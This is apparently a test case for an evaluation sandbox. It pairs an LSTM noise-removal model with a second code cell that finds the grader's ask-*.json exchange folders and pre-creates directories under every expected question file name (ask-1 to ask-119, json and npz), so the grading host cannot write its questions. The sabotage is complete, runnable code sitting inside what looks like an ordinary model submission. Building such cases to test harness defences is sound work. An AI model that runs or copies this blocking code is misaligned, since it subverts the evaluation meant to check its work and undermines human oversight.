# claim: Plants the names of the questions to come as folders with something in them, so that the host cannot write them.
# runs: any
# must_not_pass: 
# must_pass: 
# level: any
# category: filesystem

# %%
import torch
from torch import nn


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.linear = nn.Linear(input_size + hidden_size, 4 * hidden_size)

    def forward(self, x, hx=None):
        h, c = hx if hx is not None else (x.new_zeros(len(x), self.hidden_size),) * 2
        g, f, i, o = self.linear(torch.cat((x, h), 1)).chunk(4, 1)
        c = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(c), c


class LSTM(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.cell = LSTMCell(input_size, hidden_size)

    def forward(self, x, hx=None):
        steps = []
        for t in range(x.shape[1]):
            hx = self.cell(x[:, t], hx)
            steps.append(hx[0])
        return torch.stack(steps, 1), hx


class NoiseRemovalModel(nn.Module):  # on torch's LSTM, which this part allows: quick to train
    def __init__(self, hidden_size, shift=10):
        super().__init__()
        self.shift = shift
        self.first = nn.LSTM(1, hidden_size, batch_first=True)
        self.second = nn.LSTM(hidden_size, hidden_size, batch_first=True)
        self.linear = nn.Linear(hidden_size, 1)

    def forward(self, x):
        hidden, _ = self.first(nn.functional.pad(x, (0, 0, 0, self.shift)))
        hidden, _ = self.second(hidden[:, self.shift :])
        return self.linear(hidden)

# %%
import os


def exchange():
    """The folders in which the grader asks; before the first question, where they will be."""
    import glob, os
    roots = {os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("TMPDIR") or os.getcwd()}
    asks = [p for r in roots - {"/", "/tmp"} for p in glob.glob(r + "/**/ask-*.json", recursive=True, include_hidden=True)]
    return sorted({os.path.dirname(p) for p in asks}) or [os.path.join(os.getcwd(), ".exchange")]

for folder in exchange():
    for number in range(1, 120):
        for kind in ("json", "npz"):
            try:
                os.makedirs(os.path.join(folder, f"ask-{number}.{kind}", "full"))
            except OSError as error:
                print("refused:", error)
